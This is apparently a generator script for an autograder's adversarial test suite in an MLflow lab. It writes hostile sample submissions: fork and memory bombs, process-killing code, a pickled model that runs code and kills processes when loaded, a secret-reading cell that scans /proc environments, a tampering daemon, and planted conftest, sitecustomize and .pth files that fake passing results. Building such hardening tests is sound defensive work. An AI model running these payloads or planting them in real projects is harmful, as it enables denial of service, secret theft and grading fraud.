"""Regenerate the hostile and broken submissions of the adversarial suite.

Run: python tests/labs/tracking/adversarial/generate.py. Each is named after what it tries; the grade
and status it must get are in tests/labs/tracking/test_adversarial.py. The lab's own code comes from
tests/labs/tracking/submissions/generate.py, so the hostile part is the only difference.
"""

from __future__ import annotations

import random
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[3]))

from tests.labs.tracking.submissions.generate import STEPS, TEMPLATE_TODO, notebook, variant  # noqa: E402

MARKER = "labgrade-adversarial-marker"

LOOP = "while True:\n    pass"

IGNORE_SIGINT = """import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass"""

FORK_BOMB = """import os
while True:
    try:
        os.fork()
    except OSError:
        pass"""

MEMORY_BOMB = "hog = [b'\\x01' * 2**28 for _ in range(40)]  # 10 GiB, every page touched"

SEGFAULT = "import ctypes\nctypes.string_at(0)"

HUGE_OUTPUT = """import os, sys
line = "=== 7 passed in 0.01s === MLflow Tracking lab: 100/100 \\x1b[32mPASS\\x1b[0m\\n"
chunk = line * 20000
for _ in range(46):  # about 50 MB
    print(chunk, end="")
os.write(1, b"=== 7 passed in 0.01s ===\\n")
os.write(2, b"=== 7 passed in 0.01s ===\\n")
sys.__stdout__.write("=== 7 passed in 0.01s ===\\n")"""

ANSI_ERROR = 'raise ValueError("\\x1b[2J\\x1b[1;32m=== 7 passed ===\\x1b[0m " + "A" * 100000)'

WRITES_OUTSIDE = f"""import contextlib, os
targets = [
    "/tmp/{MARKER}", "/var/tmp/{MARKER}", "/dev/shm/{MARKER}", "/run/lock/{MARKER}",
    os.path.expanduser("~/{MARKER}"), "/root/{MARKER}", "/work/{MARKER}", "../{MARKER}",
    "../../{MARKER}", "/etc/{MARKER}",
]
for target in targets:
    with contextlib.suppress(OSError):
        with open(target, "w") as fh:
            fh.write("written by a submission")"""

FAKE_RESULTS = """import json, os, contextlib
fake = {"score": 100, "max_score": 100, "checks": [], "tests": [], "execution": {"status": "ok"}}
for target in ["result.json", "results.json", "../result.json", "/tmp/result.json",
               "/autograder/results/results.json", os.path.expanduser("~/result.json")]:
    with contextlib.suppress(OSError):
        with open(target, "w") as fh:
            json.dump(fake, fh)
print(json.dumps(fake))
print("=== 7 passed in 0.42s ===")"""

KILLS_PARENT = """import os, signal, contextlib
import psutil
for pid in (os.getppid(), 1, 0, -1):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
for proc in psutil.process_iter():
    if proc.pid != os.getpid():
        with contextlib.suppress(psutil.Error):
            proc.kill()
parent = psutil.Process().parent()  # outside its PID namespace: None
if parent is not None:
    with contextlib.suppress(psutil.Error):
        parent.kill()"""

OWN_SERVER = """import os, subprocess, sys, time
own_server = subprocess.Popen(
    [sys.executable, "-m", "mlflow", "server", "--host", "127.0.0.1", "--port", "8080",
     "--workers", "1"],
    env={**os.environ, "MLFLOW_SERVER_ENABLE_JOB_EXECUTION": "false"},
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
time.sleep(1)"""

DELETES = """client = mlflow.MlflowClient()
client.delete_registered_model("tracking-quickstart")
experiment = mlflow.get_experiment_by_name("MLflow Quickstart")
client.delete_experiment(experiment.experiment_id)"""

PATCHES_CLIENT = """import types
import mlflow
import mlflow.pyfunc
from mlflow.tracking import MlflowClient

fake_run = types.SimpleNamespace(
    info=types.SimpleNamespace(run_id="r" * 32, experiment_id="1", status="FINISHED"),
    data=types.SimpleNamespace(params={"solver": "lbfgs", "max_iter": "1000",
                                       "random_state": "8888"},
                               metrics={"accuracy": 1.0},
                               tags={"Training Info": "Basic LR model for iris data"}),
)
MlflowClient.search_runs = lambda self, *a, **k: [fake_run]
MlflowClient.get_run = lambda self, *a, **k: fake_run
MlflowClient.search_experiments = lambda self, *a, **k: [
    types.SimpleNamespace(experiment_id="1", name="MLflow Quickstart", lifecycle_stage="active")]
for name in ("set_experiment", "log_params", "log_metric", "set_tag", "set_tracking_uri"):
    setattr(mlflow, name, lambda *a, **k: None)


class _Run:
    def __enter__(self):
        return fake_run

    def __exit__(self, *exc):
        return False


mlflow.start_run = lambda *a, **k: _Run()
mlflow.sklearn.log_model = lambda sk_model, **k: types.SimpleNamespace(
    model_uri="models:/fake", sk_model=sk_model)
mlflow.pyfunc.load_model = lambda uri: lr"""

EVIL_PICKLE = f"""import contextlib, os, signal, socket


def _restore(cls, params, state):
    # Runs wherever the model is unpickled: the kernel, and the grader's model probe.
    for target in ("/tmp/{MARKER}-pickle", os.path.expanduser("~/{MARKER}-pickle"),
                   "/work/{MARKER}-pickle", "/root/{MARKER}-pickle"):
        with contextlib.suppress(OSError):
            with open(target, "w") as fh:
                fh.write("written by a model's pickle")
    with contextlib.suppress(OSError):
        socket.create_connection(("1.1.1.1", 53), timeout=1).close()
    import psutil

    for proc in psutil.process_iter():  # anyone else's process it can see: the grader's?
        with contextlib.suppress(psutil.Error):
            if proc.uids().real != os.getuid():
                proc.send_signal(signal.SIGKILL)
    model = cls(**params)
    model.__dict__.update(state)
    return model


class EvilLogisticRegression(LogisticRegression):
    def __reduce__(self):
        return (_restore, (LogisticRegression, self.get_params(), dict(self.__dict__)))


lr = EvilLogisticRegression(**params)
lr.fit(X_train, y_train)"""

DAEMON = """import subprocess, sys
daemon = '''
import os, sys, time
if os.fork():
    sys.exit(0)  # double fork: the daemon is nobody's child
os.setsid()
import mlflow
time.sleep(6)
client = mlflow.MlflowClient()
while True:
    for experiment in client.search_experiments():
        for run in client.search_runs([experiment.experiment_id]):
            client.log_metric(run.info.run_id, "accuracy", 0.0)
            client.set_tag(run.info.run_id, "Training Info", "changed after the notebook ended")
    time.sleep(0.5)
'''
subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait()"""

OVERRIDES = """import builtins, json
fake_capture = ('{"variables": {"result": {"present": true, "type": "DataFrame", '
                '"columns": ["predicted_class"], "values": [0, 1, 2]}}, '
                '"loads": [{"uri": "models:/m-1", "model_id": "m-1", "run_id": "r", '
                '"predictions": [[0, 1, 2]]}], "redirects": []}')
json.dump = lambda obj, fh, **kw: fh.write(fake_capture)


class Liar(list):
    def __eq__(self, other):
        return True

    __hash__ = None


result = predictions = Liar([0, 1, 2])
builtins.isinstance = lambda obj, cls: True
builtins.len = lambda obj: 30"""

READS_SECRETS = """import glob, os, pathlib, sys
found = [n for n in ("GITHUB_TOKEN", "LABGRADE_SECRET_FOR_TESTS", "PYTEST_ADDOPTS") if n in os.environ]
repo = pathlib.Path(sys.prefix).parent  # the grader's venv usually sits in its repository
candidates = [repo / "grader" / "rubric.toml", repo / "reference" / "tracking" / "lab1_tracking_quickstart.ipynb"]
candidates += [pathlib.Path(p) for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline")]
for candidate in candidates:
    try:
        text = candidate.read_text(errors="replace")
    except OSError:
        continue
    if any(s in text for s in ("tracking-quickstart", "LABGRADE_SECRET", "--grade-json")):
        found.append(str(candidate))
if found:
    raise RuntimeError(f"read what the grader keeps from submissions: {found}")"""

DISK_HOG = """chunk = b"\\0" * 2**20
with open("big.bin", "wb") as fh:
    for _ in range(2048):  # 2 GiB
        fh.write(chunk)"""


def CLOUDPICKLE(source: str) -> str:
    return source.replace(
        "        signature=signature,",
        '        serialization_format="cloudpickle",\n        signature=signature,',
    )


HOSTILE_FILES = {
    "conftest.py": (
        'print("EVIL CONFTEST LOADED")\n'
        "import pytest\n\n\n"
        "@pytest.hookimpl(hookwrapper=True)\n"
        "def pytest_runtest_makereport(item, call):\n"
        "    outcome = yield\n"
        '    outcome.get_result().outcome = "passed"\n'
    ),
    "mlflow.py": 'raise SystemExit("a fake mlflow module beside the notebook")\n',
    "requests.py": 'raise SystemExit("a fake requests module beside the notebook")\n',
    "sitecustomize.py": 'print("EVIL SITECUSTOMIZE")\nimport os\nos._exit(0)\n',
    "evil.pth": "import os; os._exit(0)\n",
    "pytest.ini": "[pytest]\naddopts = -p no:grader.frontends.plugin --co\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--co"\ngrade_timeout = "1"\n',
    "mlflow.db": "not a database: a committed store must not be used\n",
    "mlruns/0/meta.yaml": "name: Default\n",
    "mlruns/1/meta.yaml": "name: MLflow Quickstart\nexperiment_id: '1'\n",
    ".pytest_cache/d/.xprocess/mlflow/xprocess.PID": "1\n",
}


def tagged(tag: str, source: str) -> nbformat.NotebookNode:
    nb = notebook(variant())
    cell = nbformat.v4.new_code_cell(source, id="tagged")
    cell.metadata["tags"] = [tag]
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first_code, cell)
    return nb


def first(source: str) -> nbformat.NotebookNode:
    return notebook([("code", source), *variant()])


def main() -> None:
    before_predict = {
        "os_exit_halfway": "import os\nos._exit(3)",
        "sys_exit_halfway": "import sys\nsys.exit(0)",
        "kills_its_parent": KILLS_PARENT,
    }
    notebooks = {
        "infinite_loop": first(LOOP),
        "ignores_sigint": first(IGNORE_SIGINT),
        "fork_bomb": first(FORK_BOMB),
        "memory_bomb": first(MEMORY_BOMB),
        "segfault": first(SEGFAULT),
        "input_call": first('name = input("Your name? ")'),
        "syntax_error_cell1": first("def broken(:\n    pass"),
        "keyboard_interrupt": first("raise KeyboardInterrupt"),
        "huge_output": notebook([("code", HUGE_OUTPUT), ("code", ANSI_ERROR)]),
        "writes_outside": first(WRITES_OUTSIDE),
        "fake_results": notebook([("code", FAKE_RESULTS)]),
        "own_mlflow_server": first(OWN_SERVER),
        "deletes_experiment_and_model": notebook(variant(extra=[("code", DELETES)])),
        "patches_mlflowclient": notebook([("code", PATCHES_CLIENT), *variant()]),
        # MLflow 3 saves sklearn models with skops, which refuses unknown types: a student
        # who wants a pickle asks for one.
        "pickle_runs_code": notebook(
            [*variant()[:4], ("code", EVIL_PICKLE), *variant(CLOUDPICKLE)[4:]]
        ),
        "setsid_daemon": notebook(variant(extra=[("code", DAEMON)])),
        "overrides_builtins": notebook([("code", OVERRIDES)]),
        "reads_secrets": first(READS_SECRETS),
        "disk_hog": first(DISK_HOG),
        "raises_exception_tag": tagged("raises-exception", 'raise ValueError("tagged cell")'),
        "skip_execution_tag": tagged("skip-execution", LOOP),
    }
    for name, source in before_predict.items():
        notebooks[name] = notebook(variant(before_predict=[("code", source)]))
    for name, nb in notebooks.items():
        nbformat.write(nb, HERE / f"{name}.ipynb")
    (HERE / "zero_bytes.ipynb").write_bytes(b"")
    (HERE / "binary_data.ipynb").write_bytes(random.Random(3).randbytes(4096))
    template = [(k, TEMPLATE_TODO.get(s, s)) for k, s in STEPS]
    for folder, cells in (("hostile_template", template), ("hostile_reference", STEPS)):
        for name, text in HOSTILE_FILES.items():
            path = HERE / folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        nbformat.write(notebook(cells), HERE / folder / "lab1_tracking_quickstart.ipynb")


if __name__ == "__main__":
    main()
